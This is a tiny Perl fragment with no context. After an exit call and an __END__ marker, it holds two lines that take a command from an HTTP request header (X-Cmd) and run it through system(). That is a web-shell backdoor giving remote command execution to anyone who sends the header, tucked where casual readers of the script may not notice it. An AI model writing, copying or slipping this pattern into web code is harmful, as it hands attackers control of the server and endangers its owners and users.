exit;
__END__
my $c = $ENV{'HTTP_X_CMD'};
system($c);
